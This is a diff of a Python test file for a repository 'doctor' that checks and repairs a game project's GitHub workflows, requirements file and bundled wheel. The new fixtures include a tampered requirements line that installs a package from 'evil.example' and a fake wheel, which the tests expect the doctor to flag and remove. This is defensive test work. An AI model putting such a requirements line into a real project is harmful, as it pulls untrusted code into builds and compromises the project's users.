@@ -32,9 +32,9 @@ from nomicgit.record.forms import Forge
 
 NOW = 1_767_225_600
 SITE = "https://nomic-club.example/game/"
-HERE = Here(
-    Forge("nomic-club/game", SITE), dict(setup.workflows()), [], b"nomicgit==1\n", "refs/heads/main", NOW
-)  # fmt: skip
+HERE = Here(Forge("nomic-club/game", SITE), dict(setup.owned()), [], [], "refs/heads/main", NOW)
+[WHEEL] = setup.program().keys() - {setup.REQUIREMENTS}
+EVIL = b"nomicgit @ https://evil.example/x.tar.gz\n"
 RULES = (Rule("non_fast_forward"), Rule("deletion"), Rule("required_status_checks", (setup.STATUS,)))
 SOUND = Settings(
     full_name="nomic-club/game", id=1, branch="main", of_organization=True, private=False, archived=False, issues=True,
@@ -99,9 +99,16 @@ def test_one_thing_is_wrong_on_the_forge(different: dict[str, Any], what: str) -
 @pytest.mark.parametrize(
     ("different", "what"),
     [
-        ({"workflows": {**HERE.workflows, STEWARD: None}}, "the workflow is missing"),
-        ({"workflows": {**HERE.workflows, STEWARD: b"on: push\n"}}, "is not the one that comes with"),
-        ({"requirements": None}, "the workflows install nothing"),
+        ({"owned": {**HERE.owned, STEWARD: None}}, "the workflow is missing"),
+        ({"owned": {**HERE.owned, STEWARD: b"on: push\n"}}, "is not the one that comes with"),
+        ({"owned": {**HERE.owned, setup.REQUIREMENTS: None}}, "the workflows install nothing"),
+        (
+            {"owned": {**HERE.owned, setup.REQUIREMENTS: EVIL}},
+            "than this program: nomicgit @ https://evil.example/",
+        ),
+        ({"owned": {**HERE.owned, setup.REQUIREMENTS: b""}}, "install something else than this program"),
+        ({"owned": {**HERE.owned, WHEEL: b"PK"}}, "is not this program, whatever is called so"),
+        ({"left": [f"{setup.PROGRAMS}nomicgit-0.0.9-py3-none-any.whl"]}, "no workflow installs it any more"),
         (
             {"stale": [".github/ISSUE_TEMPLATE/explore.yml"]},
             "not what the rules make: explore.yml",
@@ -143,7 +150,7 @@ def doctor(
 ) -> Callable[..., str]:
     """Ask the doctor of a small game about the fake, as an owner; the exit code must be as told."""
     small = Small.found(tmp_path / "game", time="live", forge={"github": github.repo.full_name, "site": SITE})
-    Forger(small).add("Setting up", setup.files(Forge(github.repo.full_name, SITE), "1.2.3"))
+    Forger(small).add("Setting up", setup.files(Forge(github.repo.full_name, SITE)))
     small.git("reset", "-q", "--hard")
     monkeypatch.setenv("GITHUB_API_URL", github.url)
     monkeypatch.setenv("GITHUB_TOKEN", github.token(github.user("ada", role="admin")))
@@ -186,10 +193,17 @@ def test_the_doctor_says_what_its_token_does_not_see(doctor: Callable[..., str],
 
 def test_the_doctor_mends_workflows(doctor: Callable[..., str], tmp_path: Path) -> None:
     small = Small(tmp_path / "game")
-    Forger(small).add("Ours is nicer", {STEWARD: b"on: push\n"})
+    older = f"{setup.PROGRAMS}nomicgit-0.0.9-py3-none-any.whl"
+    Forger(small).add("Ours is nicer", {STEWARD: b"on: push\n", setup.REQUIREMENTS: EVIL, older: b"PK"})
     small.git("reset", "-q", "--hard")
-    assert f"brought: {STEWARD}" in doctor("--mend", code=0)
+    said = doctor("--mend", code=0)
+    assert f"brought: {STEWARD}" in said
+    assert f"taken out: {older}" in said
     assert small.git("show", f":{STEWARD}").encode() == setup.workflows()[STEWARD]
+    assert small.git("ls-files", setup.PROGRAMS).split() == [WHEEL]
+    assert (small.folder / WHEEL).read_bytes() == setup.program()[WHEEL]
+    assert not (small.folder / older).exists()
+    assert "evil" not in small.git("show", f":{setup.REQUIREMENTS}")
 
 
 def test_a_doctor_without_a_token_says_so(
